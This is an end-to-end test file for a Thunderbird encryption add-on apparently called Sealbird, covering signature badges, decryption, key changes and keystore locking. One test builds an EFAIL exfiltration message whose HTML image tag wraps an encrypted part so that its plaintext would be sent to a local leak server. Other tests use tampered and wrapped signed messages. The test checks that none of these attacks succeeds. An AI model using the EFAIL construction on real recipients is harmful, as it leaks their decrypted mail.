// Reading mail with the real Sealbird add-on in a real Thunderbird: the toolbar button's
// status, the decrypted view in the message pane, EFAIL safety, the locked keystore.
// Every message is made at test time by openssl/gpg (fixtures/messages.mjs); the keys reach
// the add-on through its own options page (lib/sealbird.mjs), nothing test-only is shipped.

import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { test, before, after } from "./lib/runner.mjs";
import { startSession } from "./lib/session.mjs";
import * as mail from "./lib/mail.mjs";
import * as sb from "./lib/sealbird.mjs";
import { TestKeys, mixed, textEntity, htmlEntity, remoteRefsHtml, longHeaderPlain } from "./fixtures/messages.mjs";

const ID = sb.SEALBIRD_ID;
const PASSPHRASE = "correct horse battery staple e2e";

let s;
let keys;

const icon = (a) => (a?.icon ?? "").replace(/^.*\/icons\//, "");

/** Imports and selects a message; the pane and button of the previous one are marked stale. */
async function show(eml) {
  const msg = await mail.importEml(s.tb, eml);
  await sb.displayMessageNoWait(s.tb, msg);
  return { msg };
}

/** Waits for the button's status of the message just shown (not stale, not "checking…"). */
function waitForStatus(pred, what) {
  return mail.waitForMessageDisplayAction(
    s.tb,
    ID,
    (a) => !!a.title && a.title !== "e2e-stale" && !/checking/i.test(a.title) && pred(a),
    { timeoutMs: 30_000, what },
  );
}

const waitForView = (kind, o) => sb.waitForSealbirdView(s.tb, kind, o);

before(
  async () => {
    const t0 = Date.now();
    const xpi = sb.buildSealbirdXpi();
    keys = new TestKeys();
    console.log(`  built XPI and made keys in ${Date.now() - t0} ms`);
    s = await startSession({ name: "display", addons: [{ id: ID, xpi }] });
    await mail.waitForAddon(s.tb, ID);
    const imported = await sb.provisionKeystore(s.tb, { passphrase: PASSPHRASE, files: keys.keyFiles() });
    console.log(`  keystore provisioned through the options page: ${imported.length} entries`);
  },
  { timeoutMs: 240_000 },
);

after(async () => {
  await s?.stop();
  keys?.dispose();
});

test("S/MIME signed by a trusted correspondent → envelope, valid badge; Thunderbird shows the body", async () => {
  const eml = keys.smimeSigned({ subject: "E2E smime signed", inner: textEntity("Signed hello SIGNED-TOKEN-1") });
  await show(eml);
  const a = await waitForStatus((x) => x.badge === "✓" && icon(x) !== "sealbird.svg", "valid badge");
  assert.equal(icon(a), "hdr-none-valid.svg");
  assert.match(a.title, /Valid signature/);
  await mail.waitForBodyText(s.tb, /SIGNED-TOKEN-1/);
  await mail.screenshot(s.tb, "display-smime-signed");
});

test("S/MIME encrypted → decrypted text replaces the body in the pane; Thunderbird's 'cannot decrypt' page stays away", async () => {
  const eml = keys.smimeEncrypted({ subject: "E2E smime encrypted", inner: textEntity("Secret hello ENC-TOKEN-2\nsecond line") });
  await show(eml);
  const a = await waitForStatus((x) => /^hdr-ok-/.test(icon(x)), "padlock icon");
  assert.match(a.title, /decrypted by Sealbird/);
  // Thunderbird has no key for it in its own store; without the smime-display experiment it
  // would load its data: "cannot decrypt" page and hide the header pane.
  const text = await waitForView("render");
  assert.match(text, /Secret hello ENC-TOKEN-2\s+second line/);
  assert.match(await sb.paneUrl(s.tb), /^(mailbox|imap):/);
  assert.equal(await sb.headerPaneVisible(s.tb), true);
  await mail.screenshot(s.tb, "display-smime-encrypted");
});

test("S/MIME encrypted to someone else → Sealbird's translated 'no key' explanation in place of the body, headers kept", async () => {
  const eml = keys.smimeEncrypted({ subject: "E2E smime not for us", to: "bob", inner: textEntity("Not for Alice NOKEY-TOKEN-2B") });
  await show(eml);
  const text = await waitForView("error");
  assert.doesNotMatch(text, /NOKEY-TOKEN-2B/);
  assert.doesNotMatch(text, /Thunderbird cannot decrypt/);
  const code = await sb.queryPane(s.tb, "[data-code]");
  assert.equal(code[0]?.attrs["data-code"], "no-key");
  assert.equal(await sb.headerPaneVisible(s.tb), true);
  const a = await waitForStatus((x) => x.badge === "!" && icon(x) !== "sealbird.svg", "failed badge");
  assert.equal(icon(a), "hdr-failed-none.svg");
  await mail.screenshot(s.tb, "display-smime-no-key");
});

test("S/MIME encrypted to a key only Thunderbird's own store has → Thunderbird's decryption stays in the pane; Sealbird's button says it has no key", async () => {
  const imported = await s.tb.marionette.run(
    `const certdb = Cc["@mozilla.org/security/x509certdb;1"].getService(Ci.nsIX509CertDB);
     const file = Cc["@mozilla.org/file/local;1"].createInstance(Ci.nsIFile);
     file.initWithPath(arguments[0]);
     return certdb.importPKCS12File(file, arguments[1]);`,
    [keys.file("carol.p12"), keys.p12Password],
  );
  assert.equal(imported, 0, "carol.p12 imported into Thunderbird's NSS store");
  const eml = keys.smimeEncrypted({ subject: "E2E smime Thunderbird's key", to: "carol", inner: textEntity("Thunderbird decrypts TBKEY-TOKEN-2C") });
  await show(eml);
  await mail.waitForBodyText(s.tb, /TBKEY-TOKEN-2C/);
  const a = await waitForStatus((x) => x.badge === "!" && icon(x) !== "sealbird.svg", "Sealbird: no key");
  assert.equal(icon(a), "hdr-failed-none.svg");
  assert.deepEqual(await sb.queryPane(s.tb, "#sealbird-view"), [], "Thunderbird's readable rendering is not replaced by a 'no key' notice");
  await mail.screenshot(s.tb, "display-smime-thunderbird-key");
});

test("PGP/MIME encrypted and signed (gpg) → decrypted + valid", async () => {
  const eml = keys.pgpEncrypted({ subject: "E2E pgp enc+sign", inner: textEntity("PGP secret PGP-TOKEN-3") });
  await show(eml);
  const text = await waitForView("render");
  assert.match(text, /PGP-TOKEN-3/);
  const a = await waitForStatus((x) => icon(x) === "hdr-ok-valid.svg" && x.badge === "✓", "padlock + valid badge");
  assert.match(a.title, /Valid signature/);
  // The popup's page for this message, opened as a tab (under Xvfb without a window manager
  // the action's panel does not stay open for a synthesized press): what the user reads one
  // click away from the badge.
  const details = await sb.popupPageFor(s.tb, "display-pgp-popup-page");
  assert.ok(details, "the popup page loaded");
  assert.match(details, /OpenPGP/);
  assert.match(details, /bob@example\.org/);
  assert.match(details, /Valid signature/);
  await mail.screenshot(s.tb, "display-pgp-encrypted-signed");
});

test("PGP/MIME rewritten by Exchange into multipart/mixed → repaired, decrypted in the pane, valid; the details say it was repaired", async () => {
  const eml = keys.pgpExchangeMangled({ subject: "E2E exchange mangled", inner: textEntity("Through Exchange EXCHANGE-TOKEN-5B") });
  await show(eml);
  const text = await waitForView("render");
  assert.match(text, /EXCHANGE-TOKEN-5B/);
  const a = await waitForStatus((x) => icon(x) === "hdr-ok-valid.svg" && x.badge === "✓", "padlock + valid badge");
  assert.match(a.title, /decrypted by Sealbird/);
  const details = await sb.popupPageFor(s.tb, "display-exchange-popup-page");
  assert.match(details ?? "", /rewritten in transit \(as Microsoft Exchange does with PGP\/MIME\)/);
  await mail.screenshot(s.tb, "display-exchange-repaired");
});

test("a plain message whose header section is over the parser's limit → Thunderbird's own display stays; the button says not signed", async () => {
  const eml = longHeaderPlain({ subject: "E2E long header", text: "After a long relay chain LONGHEADER-TOKEN-5C", headerBytes: 300 * 1024 });
  await show(eml);
  await mail.waitForBodyText(s.tb, /LONGHEADER-TOKEN-5C/);
  const a = await waitForStatus((x) => /Not encrypted/.test(x.title), "plain status");
  assert.match(a.title, /Not signed/);
  assert.notEqual(a.badge, "!");
  assert.deepEqual(await sb.queryPane(s.tb, "#sealbird-view"), [], "no Sealbird error view replaces Thunderbird's display");
  const details = await sb.popupPageFor(s.tb, "display-long-header-popup-page");
  assert.match(details ?? "", /header section is larger than Sealbird reads/);
});

test("a changed OpenPGP key for a known sender (Autocrypt) → not trusted until accepted in the popup; then the signature is valid", async () => {
  const other = keys.otherBob();
  const eml = keys.pgpEncrypted({ subject: "E2E pgp changed key", inner: textEntity("Changed key CHANGED-TOKEN-3B"), gpgHome: other.home, autocrypt: other.autocrypt });
  await show(eml);
  assert.match(await waitForView("render"), /CHANGED-TOKEN-3B/);
  const a = await waitForStatus((x) => /decrypted by Sealbird · Signed by an unknown signer/.test(x.title), "decrypted, unknown signer");
  assert.notEqual(a.badge, "✓");
  const r = await sb.popupPageFor(s.tb, "display-pgp-changed-key-popup-page", { click: '[data-action="accept-key"]', until: /Valid signature/ });
  assert.ok(r, "the popup page loaded");
  assert.match(r.before, /New key for this sender/);
  assert.match(r.before.replace(/\s/g, ""), new RegExp(other.fingerprint, "i"));
  assert.match(r.after, /Valid signature/);
  assert.doesNotMatch(r.after, /New key for this sender/);
  // The toolbar button of the message follows.
  await waitForStatus((x) => icon(x) === "hdr-ok-valid.svg" && x.badge === "✓", "valid badge after accepting");
});

test("tampered S/MIME signed message → invalid", async () => {
  const good = keys.smimeSigned({ subject: "E2E smime tampered", inner: textEntity("Pay 100 EUR to TAMPER-TOKEN-4") });
  const bad = Buffer.from(good.toString("latin1").replace("Pay 100 EUR", "Pay 900 EUR"), "latin1");
  assert.notDeepEqual(bad, good);
  await show(bad);
  const a = await waitForStatus((x) => x.badge === "✗" && icon(x) !== "sealbird.svg", "invalid badge");
  assert.equal(icon(a), "hdr-none-bad.svg");
  assert.match(a.title, /Invalid signature/);
  await mail.screenshot(s.tb, "display-smime-tampered");
});

test("signer is not the From address → mismatch", async () => {
  const eml = keys.smimeSigned({ subject: "E2E smime mismatch", from: "Carol <carol@example.org>", inner: textEntity("Not from Carol MISMATCH-TOKEN-5") });
  await show(eml);
  // The previous (tampered) message's button can be set once more after the test marked it
  // stale and before Thunderbird reports this message: wait for this message's verdict.
  const a = await waitForStatus((x) => x.badge === "✗" && !/changed after signing/.test(x.title), "mismatch badge");
  assert.match(a.title, /not by the sender shown in From/);
});

test("OpenPGP without integrity protection (gpg --rfc2440) → refused, no-integrity shown in the pane", async () => {
  const eml = keys.pgpEncrypted({ subject: "E2E pgp no mdc", sign: false, extraGpg: ["--rfc2440", "--cipher-algo", "AES256"], inner: textEntity("NOMDC-TOKEN-6") });
  await show(eml);
  const text = await waitForView("error");
  assert.doesNotMatch(text, /NOMDC-TOKEN-6/);
  const code = await sb.queryPane(s.tb, "[data-code]");
  assert.equal(code[0]?.attrs["data-code"], "no-integrity");
  const a = await waitForStatus((x) => x.badge === "!" && icon(x) !== "sealbird.svg", "failed badge");
  assert.equal(icon(a), "hdr-failed-none.svg");
  await mail.screenshot(s.tb, "display-pgp-no-mdc");
});

test("EFAIL direct exfiltration (html <img src=\"…? | encrypted part | \">) → no request, nested plaintext not merged", async () => {
  s.leak.reset();
  const eml = mixed({
    subject: "E2E efail",
    parts: [
      htmlEntity(`<html><body>Hello <img src="http://127.0.0.1:${s.leak.port}/efail?`),
      keys.smimeEncryptedEntity(textEntity("EFAIL-SECRET-7 must never be shown")),
      htmlEntity(`"> EFAIL-VISIBLE-7</body></html>`),
    ],
  });
  await show(eml);
  const text = await waitForView("render");
  assert.doesNotMatch(text, /EFAIL-SECRET-7/);
  assert.match(text, /EFAIL-VISIBLE-7/);
  const imgs = await sb.queryPane(s.tb, "#sealbird-view img");
  assert.deepEqual(imgs.filter((i) => /^https?:/i.test(i.attrs.src ?? "")), []);
  const parts = await sb.queryPane(s.tb, "#sealbird-view .sealbird-part");
  assert.equal(parts.length, 2, "the two HTML parts are rendered separately");
  await new Promise((r) => setTimeout(r, 1500));
  assert.deepEqual(s.leak.requests(), []);
  const a = await mail.readMessageDisplayAction(s.tb, ID);
  assert.notEqual(a?.badge, "✓");
  assert.doesNotMatch(icon(a), /^hdr-ok-/);
  await mail.screenshot(s.tb, "display-efail");
});

test("encrypted HTML full of remote references → text shown, zero requests even with remote content allowed", async () => {
  s.leak.reset();
  // PGP/MIME: Thunderbird always blocks remote content in S/MIME-encrypted messages, which
  // would hide a sanitiser bug; here remote content is allowed for the message, as a user
  // can, so only Sealbird's sanitiser stands between the message and the network.
  const eml = keys.pgpEncrypted({ subject: "E2E remote refs", inner: htmlEntity(remoteRefsHtml(s.leak.port, "REMOTE-TOKEN-8")) });
  const { msg } = await show(eml);
  let text = await waitForView("render");
  assert.match(text, /REMOTE-TOKEN-8/);
  await mail.markPaneStale(s.tb);
  await s.tb.marionette.run(
    `Services.wm.getMostRecentWindow("mail:3pane").document.getElementById("tabmail").currentAboutMessage.LoadMsgWithRemoteContent(); return true;`,
  );
  text = await waitForView("render");
  assert.match(text, /REMOTE-TOKEN-8/);
  await new Promise((r) => setTimeout(r, 2500));
  assert.deepEqual(s.leak.requests(), []);
  const html = (await mail.readDisplayedMessage(s.tb)).bodyHtml;
  assert.doesNotMatch(html, new RegExp(`127\\.0\\.0\\.1:${s.leak.port}/(?!link-click)`));
  await mail.screenshot(s.tb, "display-remote-refs");
  // Positive control: in this very document a remote image that got through would be fetched.
  await s.tb.marionette.run(
    `const doc = Services.wm.getMostRecentWindow("mail:3pane").document.getElementById("tabmail").currentAboutMessage.getMessagePaneBrowser().contentDocument;
     const img = doc.createElement("img"); img.src = arguments[0]; doc.body.appendChild(img); return true;`,
    [s.leak.url("/control.png")],
  );
  const seen = await s.leak.waitForRequests(1, 10_000);
  assert.ok(seen.some((r) => /control\.png/.test(r.url ?? r.path ?? JSON.stringify(r))), `control request not seen: ${JSON.stringify(seen)}`);
  void msg;
});

test("a valid multipart/signed wrapped in multipart/mixed → no message-level valid badge", async () => {
  const signed = keys.smimeSignedEntity(textEntity("Wrapped signed WRAPPED-TOKEN-9"));
  const eml = mixed({ subject: "E2E wrapped signed", parts: [textEntity("Attacker text around a signed part"), signed] });
  await show(eml);
  await mail.waitForBodyText(s.tb, /Attacker text/);
  // Give the add-on time to process; the badge must never become valid.
  const deadline = Date.now() + 4000;
  while (Date.now() < deadline) {
    const a = await mail.readMessageDisplayAction(s.tb, ID);
    assert.notEqual(a?.badge, "✓");
    assert.notEqual(icon(a), "hdr-none-valid.svg");
    await new Promise((r) => setTimeout(r, 250));
  }
  const a = await mail.readMessageDisplayAction(s.tb, ID);
  assert.match(a.title ?? "", /Not signed/);
});

test("locked keystore → pane says so; unlock through the add-on's prompt; message renders without reopening", async () => {
  await sb.extensionCallOk(s.tb, { type: "keystore:lock" });
  const eml = keys.pgpEncrypted({ subject: "E2E locked", sign: false, inner: textEntity("Behind the lock LOCKED-TOKEN-10") });
  await show(eml);
  const notice = await waitForView("locked");
  assert.doesNotMatch(notice, /LOCKED-TOKEN-10/);
  assert.match(notice, /locked/i);
  assert.deepEqual(await sb.queryPane(s.tb, "input"), [], "no passphrase field in the message document");
  await mail.screenshot(s.tb, "display-locked");
  assert.ok(await sb.clickInPane(s.tb, "button[data-action=locked]"));
  await sb.waitForUnlockWindow(s.tb);
  await sb.fillUnlockWindow(s.tb, PASSPHRASE);
  const text = await waitForView("render");
  assert.match(text, /LOCKED-TOKEN-10/);
  await waitForStatus((x) => /^hdr-ok-/.test(icon(x)), "padlock after unlock");
  await mail.screenshot(s.tb, "display-unlocked");
});

test("a long decrypted text (S/MIME, 1 MB) → shown whole, laid out in blocks as it scrolls into view: its text, find in page and select-all + copy see every line", async () => {
  // Lines of different lengths, some longer than the pane is wide, non-ASCII, and a last line
  // far below the first screen.
  const lines = ["LONG-FIRST-TOKEN"];
  for (let i = 0; lines.join("\n").length < 1024 * 1024; i++) lines.push(`line ${i} ` + "äö ".repeat(i % 7) + "x".repeat((i * 37) % 300));
  lines.push("LONG-LAST-TOKEN-9 end");
  const text = lines.join("\n");
  await show(keys.smimeEncrypted({ subject: "E2E long text", inner: textEntity(text) }));
  await waitForView("render", { timeoutMs: 60_000 });
  const got = await s.tb.marionette.run(
    sb.PRELUDE +
      `const doc = tabmail.currentAboutMessage.getMessagePaneBrowser().contentDocument;
       const part = doc.querySelector("#sealbird-view .sealbird-part[data-kind=text]");
       const blocks = [...part.querySelectorAll("pre")];
       const pane = doc.defaultView;
       const skipped = blocks.filter((b) => pane.getComputedStyle(b).contentVisibility === "auto").length;
       const found = pane.find("LONG-LAST-TOKEN-9", false, false, true);
       const sel = pane.getSelection();
       const foundText = sel.rangeCount ? sel.getRangeAt(0).toString() : "";
       // Select all and copy, as the user does, and read what reached the clipboard.
       sel.selectAllChildren(part);
       doc.execCommand("copy");
       sel.removeAllRanges();
       const trans = Cc["@mozilla.org/widget/transferable;1"].createInstance(Ci.nsITransferable);
       trans.init(null);
       trans.addDataFlavor("text/plain");
       Services.clipboard.getData(trans, Ci.nsIClipboard.kGlobalClipboard, win.browsingContext.currentWindowContext);
       const out = {};
       trans.getTransferData("text/plain", out);
       const copied = out.value.QueryInterface(Ci.nsISupportsString).data;
       return { textContent: part.textContent, blocks: blocks.length, skipped, found, foundText, copied };`,
  );
  assert.equal(got.textContent.replace(/\n$/, ""), text, "the pane holds the decrypted text, character for character");
  assert.ok(got.blocks > 10, `a long text is cut into blocks (${got.blocks})`);
  assert.equal(got.skipped, got.blocks, "each block is laid out only near the screen");
  assert.equal(got.found, true, "find in page reaches the last line");
  assert.equal(got.foundText, "LONG-LAST-TOKEN-9");
  assert.equal(got.copied.replace(/\n$/, ""), text, "select all + copy gives the text without added or lost line breaks");
  await mail.screenshot(s.tb, "display-long-text");
  // Where one block ends and the next begins, mid-pane: the lines run on as in one text.
  await s.tb.marionette.run(
    sb.PRELUDE +
      `const doc = tabmail.currentAboutMessage.getMessagePaneBrowser().contentDocument;
       const second = doc.querySelectorAll("#sealbird-view pre.sealbird-chunk")[1];
       second.scrollIntoView();
       doc.defaultView.scrollBy(0, -doc.defaultView.innerHeight / 2);
       await new Promise((r) => doc.defaultView.requestAnimationFrame(() => doc.defaultView.requestAnimationFrame(r)));`,
  );
  await mail.screenshot(s.tb, "display-long-text-seam");
}, { timeoutMs: 120_000 });

test("timing: display → decrypted body for 100 KB and 10 MB PGP/MIME messages (measured, not asserted)", async () => {
  for (const [label, size] of [["100 KB", 100 * 1024], ["10 MB", 10 * 1024 * 1024]]) {
    // Incompressible text (and no compression in gpg), so the .eml really has the size.
    const body = `SIZE-TOKEN-${size}\n` + (randomBytes(Math.ceil((size * 3) / 4)).toString("base64").match(/.{1,76}/g) ?? []).join("\n");
    const eml = keys.pgpEncrypted({ subject: `E2E size ${label}`, sign: false, extraGpg: ["--compress-algo", "none"], inner: textEntity(body) });
    const msg = await mail.importEml(s.tb, eml);
    const t0 = Date.now();
    await sb.displayMessageNoWait(s.tb, msg);
    const text = await waitForView("render", { timeoutMs: 120_000 });
    const total = Date.now() - t0;
    assert.match(text.slice(0, 200), new RegExp(`SIZE-TOKEN-${size}`));
    console.log(`  ${label} (${(eml.length / 1024).toFixed(0)} KiB .eml): decrypted view rendered ${total} ms after the display request`);
  }
}, { timeoutMs: 300_000 });

/** A 1.5 MB 8-bit message: every byte value but CR and LF, "From " lines (which the mbox store escapes on disk), a bare CR; `tail` last. */
function sourceBytesMessage(subject, tail) {
  const lines = [];
  for (let i = 0; i < 20000; i++) {
    const bytes = randomBytes(72).map((b) => (b === 10 || b === 13 || b === 0 ? 32 : b));
    lines.push(i % 997 === 0 ? Buffer.concat([Buffer.from("From the archive "), bytes]) : Buffer.from(bytes));
  }
  lines.push(Buffer.from("a bare\rCR"), tail);
  const head = `From: Alice <alice@example.org>\r\nTo: Bob <bob@example.org>\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: 8bit\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), ...lines.flatMap((l) => [l, Buffer.from("\r\n")])]);
}

/** Both readings of the message with that subject, in the add-on's options page: SHA-256 and length of each, and the native bytes' last 64. */
function readBothWays(subject) {
  return sb.inExtensionPage(
    s.tb,
    "ui/options.html",
    `const [subject] = args;
     const found = await w.browser.messages.query({ subject });
     if (found.messages.length !== 1) throw new Error("found " + found.messages.length + " messages");
     const id = found.messages[0].id;
     const digest = async (buf) => {
       const d = new w.Uint8Array(await w.crypto.subtle.digest("SHA-256", buf));
       return { length: buf.byteLength, sha256: Array.from(d, (b) => b.toString(16).padStart(2, "0")).join("") };
     };
     const t0 = w.performance.now();
     const native = await w.browser.messageSource.read(id);
     const t1 = w.performance.now();
     const raw = await (await w.browser.messages.getRaw(id, { decrypt: false, data_format: "File" })).arrayBuffer();
     const t2 = w.performance.now();
     return { native: await digest(native), raw: await digest(raw), nativeTail: Array.from(new w.Uint8Array(native).slice(-64)), nativeMs: Math.round(t1 - t0), rawMs: Math.round(t2 - t1) };`,
    [subject],
  );
}

test("the message-source experiment reads the same bytes as messages.getRaw (8-bit, bare CR, mbox 'From ' lines, 1.5 MB in many chunks), and all of a message with a NUL byte", async () => {
  await sb.extensionCallOk(s.tb, { type: "options:state" }); // the options tab is open
  const subject = `E2E source bytes ${Date.now()}`;
  const eml = sourceBytesMessage(subject, Buffer.from("THE-LAST-LINE"));
  await mail.importEml(s.tb, eml);
  const got = await readBothWays(subject);
  assert.ok(got.raw.length >= eml.length, `getRaw returned the whole message (${got.raw.length} of ${eml.length} bytes)`);
  assert.deepEqual(got.native, got.raw, "the same bytes");
  console.log(`  ${(got.raw.length / 1048576).toFixed(1)} MB: messageSource.read ${got.nativeMs} ms, messages.getRaw ${got.rawMs} ms`);
  // getRaw reads each chunk as a string through nsIScriptableInputStream, which ends at a NUL
  // byte: the rest of that chunk is lost. The native reading keeps every byte.
  const withNul = `E2E source bytes with NUL ${Date.now()}`;
  const tail = Buffer.from("a NUL \0 and THE-LAST-LINE");
  const eml2 = sourceBytesMessage(withNul, tail);
  await mail.importEml(s.tb, eml2);
  const got2 = await readBothWays(withNul);
  assert.ok(got2.native.length >= eml2.length, `the whole message (${got2.native.length} of ${eml2.length} bytes)`);
  assert.ok(Buffer.from(got2.nativeTail).includes(tail), "the bytes after the NUL are there");
  console.log(`  with a NUL byte: messageSource.read ${got2.native.length} bytes, messages.getRaw ${got2.raw.length} bytes`);
});
